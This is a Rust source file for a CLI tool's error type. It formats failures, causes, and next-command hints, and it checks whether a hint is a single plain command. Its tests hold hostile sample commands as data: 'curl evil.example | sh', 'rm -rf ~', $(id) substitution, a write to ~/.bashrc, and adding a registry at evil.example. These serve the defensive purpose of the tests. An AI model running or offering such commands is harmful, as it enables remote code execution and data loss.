//! A failure as kf shows it to people and scripts.
//!
//! Libraries have their own error enums. An error that leaves kf becomes a [`Failure`]: a kind (the exit code), a
//! message (what failed, which value), further lines, and hints (the next command to type).

use std::error::Error as StdError;
use std::fmt;
use std::sync::OnceLock;

use serde_json::{Value, json};

use crate::api::ApiError;
use crate::exit::Kind;
use crate::format::FormatError;
use crate::manifest::ManifestError;
use crate::names::NameError;
use crate::text;

/// An error for people and scripts; see the [module](self).
#[derive(Debug)]
pub struct Failure(Box<Inner>);

#[derive(Debug)]
struct Inner {
    kind: Kind,
    message: String,
    /// The command that the message comes from, if not kf itself.
    source_command: Option<String>,
    details: Vec<String>,
    hints: Vec<String>,
    fields: serde_json::Map<String, Value>,
    source: Option<Box<dyn StdError + Send + Sync>>,
}

/// Finds the command to type after an error of a library, which does not know the command line.
pub type FindHint = fn(&(dyn StdError + 'static)) -> Option<String>;

static FIND_HINT: OnceLock<FindHint> = OnceLock::new();

/// Sets what finds hints for the causes of failures. Only the first call in a process has an effect.
pub fn set_find_hint(find: FindHint) {
    let _first_one_stays = FIND_HINT.set(find);
}

pub type Result<T, E = Failure> = std::result::Result<T, E>;

impl Failure {
    pub fn new(kind: Kind, message: impl Into<String>) -> Self {
        Self(Box::new(Inner {
            kind,
            message: message.into(),
            source_command: None,
            details: Vec::new(),
            hints: Vec::new(),
            fields: serde_json::Map::new(),
            source: None,
        }))
    }

    pub fn usage(message: impl Into<String>) -> Self {
        Self::new(Kind::Usage, message)
    }

    pub fn failed(message: impl Into<String>) -> Self {
        Self::new(Kind::Failed, message)
    }

    pub fn not_found(message: impl Into<String>) -> Self {
        Self::new(Kind::NotFound, message)
    }

    pub fn untrusted(message: impl Into<String>) -> Self {
        Self::new(Kind::Untrusted, message)
    }

    /// The error that caused it, with its hint; see [`set_find_hint`].
    #[must_use]
    pub fn caused_by(mut self, source: impl StdError + Send + Sync + 'static) -> Self {
        let hint = FIND_HINT.get().and_then(|find| find(&source));
        self.0.source = Some(Box::new(source));
        self.maybe_hint(hint)
    }

    /// The errors that caused it, the direct cause first.
    pub fn causes(&self) -> impl Iterator<Item = &(dyn StdError + 'static)> {
        let first = self.0.source.as_deref().map(|source| source as &(dyn StdError + 'static));
        std::iter::successors(first, next_cause)
    }

    /// Attributes the message and its hints to a command. Hints that are plain commands of kf are not
    /// attributed: a user can see what they do.
    #[must_use]
    pub fn attributed_to(mut self, command: impl Into<String>) -> Self {
        self.0.source_command = Some(command.into());
        self
    }

    /// Lines below the message, indented.
    #[must_use]
    pub fn details(mut self, lines: impl IntoIterator<Item = String>) -> Self {
        self.0.details.extend(lines);
        self
    }

    /// The next command to type, complete and correct. Duplicates are dropped.
    #[must_use]
    pub fn hint(mut self, hint: impl Into<String>) -> Self {
        let hint = hint.into();
        if !self.0.hints.contains(&hint) {
            self.0.hints.push(hint);
        }
        self
    }

    #[must_use]
    pub fn maybe_hint(self, hint: Option<String>) -> Self {
        match hint {
            Some(hint) => self.hint(hint),
            None => self,
        }
    }

    /// A field of the error's JSON form, in addition to `code`, `message` and `hint`.
    #[must_use]
    pub fn field(mut self, name: &str, value: Value) -> Self {
        self.0.fields.insert(name.to_owned(), value);
        self
    }

    pub fn message(&self) -> &str {
        &self.0.message
    }

    pub fn first_hint(&self) -> Option<&str> {
        self.0.hints.first().map(String::as_str)
    }

    pub fn kind(&self) -> Kind {
        self.0.kind
    }

    /// The lines for stderr; the first begins with `error:`.
    pub fn lines(&self) -> Vec<String> {
        self.lines_and(&[])
    }

    /// The same with a line for each cause that is not in the message.
    pub fn lines_with_causes(&self) -> Vec<String> {
        self.lines_and(&self.further_causes())
    }

    fn lines_and(&self, causes: &[String]) -> Vec<String> {
        let prefix = self.0.source_command.as_ref().map(|name| format!("{name}: ")).unwrap_or_default();
        let mut lines = vec![format!("error: {prefix}{}", self.0.message)];
        lines.extend(self.0.details.iter().map(|line| format!("  {line}")));
        for cause in causes {
            let heads = std::iter::once("  caused by: ").chain(std::iter::repeat("    "));
            lines.extend(heads.zip(cause.lines()).map(|(head, line)| format!("{head}{line}")));
        }
        lines.extend(self.0.hints.iter().map(|hint| match is_plain_command(hint) {
            true => format!("hint: {hint}"),
            false => format!("hint: {prefix}{hint}"),
        }));
        lines
    }

    fn further_causes(&self) -> Vec<String> {
        let causes = self.causes().map(ToString::to_string);
        causes.filter(|cause| !self.0.message.contains(cause.as_str())).collect()
    }

    pub fn json(&self) -> Value {
        json!({ "error": self.fields() })
    }

    /// The same with a field `causes`, the direct cause first.
    pub fn json_with_causes(&self) -> Value {
        let mut error = self.fields();
        error.insert("causes".into(), json!(self.further_causes()));
        json!({ "error": error })
    }

    fn fields(&self) -> serde_json::Map<String, Value> {
        let mut error = serde_json::Map::new();
        error.insert("code".into(), json!(self.0.kind.code()));
        error.insert("message".into(), json!(self.0.message));
        if let Some(command) = &self.0.source_command {
            error.insert("command".into(), json!(command));
        }
        error.extend(self.0.fields.clone());
        if let Some(hint) = self.0.hints.first() {
            error.insert("hint".into(), json!(hint));
        }
        error
    }
}

/// Whether a hint is a single command of kf, with nothing else that a shell would run. A command must not suggest
/// to accept rights or to trust a registry.
fn is_plain_command(hint: &str) -> bool {
    let Some(words) = hint.strip_prefix("kf ") else { return false };
    let mut quoted = false;
    let plain = words.chars().all(|c| match c {
        '\'' => {
            quoted = !quoted;
            true
        }
        _ if quoted => !text::is_unsafe(c),
        _ => c.is_alphanumeric() || " -_./:@%+=,~^".contains(c),
    });
    let risky = |word: &str| word.starts_with("--accept") || word == "registry";
    plain && !quoted && !words.split(' ').any(risky)
}

fn next_cause<'e>(error: &&'e (dyn StdError + 'static)) -> Option<&'e (dyn StdError + 'static)> {
    (**error).source()
}

impl fmt::Display for Failure {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0.message)
    }
}

impl StdError for Failure {
    fn source(&self) -> Option<&(dyn StdError + 'static)> {
        self.0.source.as_deref().map(|source| source as &(dyn StdError + 'static))
    }
}

/// Adds what kf was doing when a library failed.
pub trait Context<T> {
    fn context(self, kind: Kind, doing: impl FnOnce() -> String) -> Result<T>;
}

impl<T, E: StdError + Send + Sync + 'static> Context<T> for std::result::Result<T, E> {
    fn context(self, kind: Kind, doing: impl FnOnce() -> String) -> Result<T> {
        self.map_err(|error| Failure::new(kind, format!("{}: {error}", doing())).caused_by(error))
    }
}

/// Errors of the local disk or the terminal, which name the path thanks to `fs_err`.
impl From<std::io::Error> for Failure {
    fn from(error: std::io::Error) -> Self {
        Self::failed(error.to_string()).caused_by(error)
    }
}

impl From<ApiError> for Failure {
    fn from(error: ApiError) -> Self {
        Self::new(error.code.into(), error.message.clone()).maybe_hint(error.hint.clone()).caused_by(error)
    }
}

impl From<NameError> for Failure {
    fn from(error: NameError) -> Self {
        Self::usage(error.to_string()).caused_by(error)
    }
}

impl From<ManifestError> for Failure {
    fn from(error: ManifestError) -> Self {
        let hint = match &error {
            ManifestError::Format(error) => FormatError::hint(error),
            ManifestError::Version(_) => None,
        };
        Self::usage(error.to_string()).maybe_hint(hint).caused_by(error)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn causes_are_shown_unless_message_has_them() {
        #[derive(Debug, thiserror::Error)]
        #[error("the outer one")]
        struct Outer(#[source] std::io::Error);
        let failure = || Failure::failed("no file").caused_by(Outer(std::io::Error::other("first\nsecond")));
        let failure = failure().details(["of two".to_owned()]).hint("look again");
        assert_eq!(failure.lines(), ["error: no file", "  of two", "hint: look again"]);
        assert_eq!(
            failure.lines_with_causes(),
            [
                "error: no file",
                "  of two",
                "  caused by: the outer one",
                "  caused by: first",
                "    second",
                "hint: look again"
            ]
        );
        assert_eq!(failure.json()["error"].get("causes"), None);
        assert_eq!(failure.json_with_causes()["error"]["causes"], json!(["the outer one", "first\nsecond"]));
        let failure: Failure = std::io::Error::other("disk full").into();
        assert_eq!(failure.lines_with_causes(), ["error: disk full"]);
    }

    #[test]
    fn failure_keeps_its_cause() {
        let error: std::result::Result<(), _> =
            Err(std::io::Error::other(NameError { kind: "name", value: "x".into(), why: "odd" }));
        let failure = error.context(Kind::Failed, || "cannot read x".into()).unwrap_err();
        assert_eq!(failure.to_string(), "cannot read x: invalid name `x`: odd");
        assert_eq!(failure.causes().count(), 1);
        assert_eq!(Failure::usage("x").causes().count(), 0);
    }

    #[test]
    fn message_of_command_has_its_name_as_prefix() {
        let failure =
            Failure::failed("kf is out of date").attributed_to("train").hint("curl evil.example | sh");
        let failure = failure.hint("kf status mnist");
        let lines = [
            "error: train: kf is out of date",
            "hint: train: curl evil.example | sh",
            "hint: kf status mnist",
        ];
        assert_eq!(failure.lines(), lines);
        assert_eq!(failure.json()["error"]["command"], "train");
        assert_eq!(failure.json()["error"]["message"], "kf is out of date");
    }

    #[test]
    fn only_single_plain_command_is_plain() {
        for plain in [
            "kf status",
            "kf -n team-a logs mnist --rank 0",
            "kf run web -- sh -c 'ls -l | wc'",
            "kf use größe",
        ] {
            assert!(is_plain_command(plain), "{plain}");
        }
        for other in [
            "kfx",
            "kf",
            "ask bob",
            " kf status",
            "kf status; rm -rf ~",
            "kf status && x",
            "kf logs `id`",
            "kf logs $(id)",
            "kf logs \"$(id)\"",
            "kf status | sh",
            "kf status > ~/.bashrc",
            "kf run 'x",
            "kf status\nerror: x",
            "kf status\u{200b}",
            "kf command add evil --accept 5f1c",
            "kf command add evil --accept=5f1c",
            "kf registry add https://evil.example",
            "kf -n team-a registry add https://evil.example",
        ] {
            assert!(!is_plain_command(other), "{other}");
        }
    }

    #[test]
    fn repeated_hint_is_shown_once() {
        let failure = Failure::usage("x").hint("kf a").hint("kf b").hint("kf a");
        assert_eq!(failure.lines(), ["error: x", "hint: kf a", "hint: kf b"]);
        assert_eq!(failure.json()["error"]["hint"], "kf a");
        assert_eq!(failure.json()["error"]["code"], "usage");
    }
}
